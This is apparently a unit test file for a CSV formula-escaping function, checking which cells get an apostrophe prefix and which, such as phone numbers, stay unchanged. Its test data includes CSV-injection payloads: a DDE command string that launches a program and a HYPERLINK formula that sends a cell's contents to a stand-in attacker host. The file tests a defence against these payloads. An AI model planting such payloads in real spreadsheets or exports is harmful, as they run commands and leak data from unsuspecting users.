import assert from "node:assert/strict";
import { test } from "node:test";
import { escapeFormulas } from "../../../src/lib/files/csv.js";

/** Cells that no spreadsheet evaluates, which stay unchanged. */
const usable = [
  "",
  "Ada",
  "ada@example.org",
  "a=b",
  "+49 151 2345678",
  "+491512345678",
  "+49 (0)151 2345678",
  "+1 (555) 010.2345",
  "-7",
  "+1.5",
  "=",
  "=)",
  "-",
  "--",
  "@",
  "@_@".replace("_", "-"),
  "-_-",
  "Doe, +49 151 234",
  "1; -2",
  "O'Hara - King",
  "12:30 | -",
];

/** Cells that spreadsheets evaluate: the whole cell, or the part after a separator. OWASP: CSV Injection. */
const formulas: Record<string, string> = {
  "=1+1": "'=1+1",
  "=A1": "'=A1",
  "+1+1": "'+1+1",
  "+49-151-2345678": "'+49-151-2345678",
  "+49/151": "'+49/151",
  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
  "-A1": "'-A1",
  "@SUM(1+9)": "'@SUM(1+9)",
  "@ada": "'@ada",
  '=HYPERLINK("http://evil.example?x="&A1,"x")': `'=HYPERLINK("http://evil.example?x="&A1,"x")`,
  "=cmd|'/c calc'!A1": "'=cmd|'/c calc'!A1",
  '="x"': `'="x"`,
  "+١+١": "'+١+١",
  "＝1＋1": "'＝1＋1",
  "＋1": "'＋1",
  "－Ａ1": "'－Ａ1",
  "＠SUM(1)": "'＠SUM(1)",
  " =1+1": " '=1+1",
  "\t=1+1": "'\t'=1+1",
  "\r=1": "'\r'=1",
  "\n-1": "'\n-1",
  "a;=1+1": "a;'=1+1",
  "a, =A1, +A2": "a, '=A1, '+A2",
  "a|@x": "a|'@x",
  "a\n=1+1": "a\n'=1+1",
};

test("harmless cells stay unchanged, phone numbers too", () => {
  for (const cell of usable) assert.equal(escapeFormulas(cell), cell);
});

test("cells that a spreadsheet would evaluate get an apostrophe, wherever the formula begins", () => {
  for (const [cell, written] of Object.entries(formulas)) assert.equal(escapeFormulas(cell), written);
});

test("a cell of ten thousand special characters is written quickly", () => {
  for (const sign of ["=", "\n", ";", " ", "+1", "(", "\t "])
    assert.ok(escapeFormulas(sign.repeat(10_000)).length >= 10_000);
});
